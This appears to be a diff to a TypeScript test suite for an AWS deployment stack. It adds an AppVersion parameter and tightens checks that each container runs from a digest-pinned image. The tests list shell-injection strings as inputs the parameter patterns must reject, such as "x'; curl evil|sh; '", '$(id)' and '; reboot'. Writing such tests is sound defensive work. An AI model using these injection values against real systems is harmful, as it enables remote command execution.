@@ -20,6 +20,7 @@ import { applyNagChecks } from '../../lib/nag';
 import { readDefinition, taskTimeouts } from '../../lib/workflow-definition';
 import { StackProStack } from '../../lib/stackpro-stack';
 import { CUSTOMER_CONTAINERS, PINNED_IMAGE } from '../../lib/customer-containers';
+import { APP_VERSIONS } from '../../lambdas/core/app-versions';
 import { CUSTOMER_SECRETS } from '../../lambdas/core/customer-secrets';
 import type { StackProFunction } from '../../lib/stackpro-function';
 import { attachedPolicies, statementsOfRole as statementsOfRoleIn, type Statement } from './iam-policies';
@@ -625,6 +626,7 @@ describe('Workflow steps', () => {
     'ssm:read': ['ssm:DescribeInstanceInformation', 'ssm:GetCommandInvocation'],
     'ssm:customer-secrets': ['ssm:PutParameter', 'ssm:AddTagsToResource'],
     stripe: ['secretsmanager:GetSecretValue', 'secretsmanager:DescribeSecret'],
+    'customers:list': ['dynamodb:Query'],
   };
 
   /** The environment each access adds on top of TABLE_NAME (names from lambdas/config.ts). */
@@ -646,6 +648,7 @@ describe('Workflow steps', () => {
     'ssm:read': [],
     'ssm:customer-secrets': ['INSTANCE_ARN_PREFIX'],
     stripe: ['STRIPE_SECRET_ID'],
+    'customers:list': [],
   };
 
   /** Settings a step reads beyond its access, by step id. */
@@ -1042,10 +1045,10 @@ describe('DeployDocument', () => {
     };
   }
 
-  it('is a schema 2.2 shell script with exactly the three parameters Deploy applications sends', () => {
+  it('is a schema 2.2 shell script with exactly the parameters Deploy applications and the fleet update send', () => {
     const content = documentContent();
     expect(content.schemaVersion).toBe('2.2');
-    expect(Object.keys(content.parameters).sort()).toEqual(['CustomerId', 'Plan', 'Subdomain']);
+    expect(Object.keys(content.parameters).sort()).toEqual(['AppVersion', 'CustomerId', 'Plan', 'Subdomain']);
     expect(content.mainSteps.map((step) => step.action)).toEqual(['aws:runShellScript']);
   });
 
@@ -1053,6 +1056,7 @@ describe('DeployDocument', () => {
     ['CustomerId', '0b6f0f8e-5d0a-4c59-9a3e-2f1b8c7d6e5f', ["x'; curl evil|sh; '", '../other-customer', '']],
     ['Subdomain', `acme-co.${cdkJson.context['stackpro:customerDomain']}`, ['acme.evil.example', `a b.${cdkJson.context['stackpro:customerDomain']}`, `$(id).${cdkJson.context['stackpro:customerDomain']}`]],
     ['Plan', 'business', ['business; reboot', 'gold']],
+    ['AppVersion', APP_VERSIONS[0]!.version, [`${APP_VERSIONS[0]!.version}; reboot`, '2099.01.0', `${APP_VERSIONS[0]!.version.replace(/\./g, 'x')}`]],
   ])('%s admits %s and nothing that could break out of the shell', (name, valid, invalid) => {
     const pattern = new RegExp(documentContent().parameters[name]!.allowedPattern);
     expect(pattern.test(valid)).toBe(true);
@@ -1073,7 +1077,15 @@ describe('DeployDocument', () => {
   it('runs every container from an image pinned by digest (a floating tag fails this test)', () => {
     const runs = scriptLines().filter((line) => line.startsWith('run '));
     expect(runs.map((line) => line.split(' ')[1])).toEqual(CUSTOMER_CONTAINERS.map((container) => container.name));
-    for (const line of runs) expect(line.split(' ')[2]).toMatch(PINNED_IMAGE);
+    // Each run line takes its image from the version switch, whose every arm sets only pinned images.
+    for (const line of runs) expect(line.split(' ')[2]).toMatch(/^"\$IMAGE_[A-Z]+"$/);
+    const arms = scriptLines().filter((line) => /^ {2}'\d{4}\.\d{2}\.\d+'\)/.test(line));
+    expect(arms.map((line) => /'([^']+)'\)/.exec(line)![1])).toEqual(APP_VERSIONS.map((entry) => entry.version));
+    for (const arm of arms) {
+      const images = [...arm.matchAll(/IMAGE_[A-Z]+='([^']+)'/g)].map((match) => match[1]);
+      expect(images).toHaveLength(CUSTOMER_CONTAINERS.length);
+      for (const image of images) expect(image).toMatch(PINNED_IMAGE);
+    }
     // No other way to start a container or pull an image sneaks in beside `run`.
     const script = scriptLines().join('\n');
     expect(script.match(/docker (run|pull|create)\b/g)).toEqual(['docker run']);
@@ -1081,8 +1093,11 @@ describe('DeployDocument', () => {
     // Each image's repository appears only in its pinned reference (no second, floating mention).
     for (const { image } of CUSTOMER_CONTAINERS) {
       const repository = image.split(/[:@]/)[0]!;
-      const mentions = script.split(/[\s"]+/).filter((word) => word.startsWith(`${repository}:`) || word.startsWith(`${repository}@`));
-      expect(mentions).toEqual([image]);
+      // One pinned mention per version (the switch's arms), no second, floating mention.
+      const mentions = script.split(/[\s"';=]+/).filter((word) => word.startsWith(`${repository}:`) || word.startsWith(`${repository}@`));
+      expect(mentions).toHaveLength(APP_VERSIONS.length);
+      expect(mentions).toContain(image);
+      for (const mention of mentions) expect(mention).toMatch(PINNED_IMAGE);
     }
   });
 
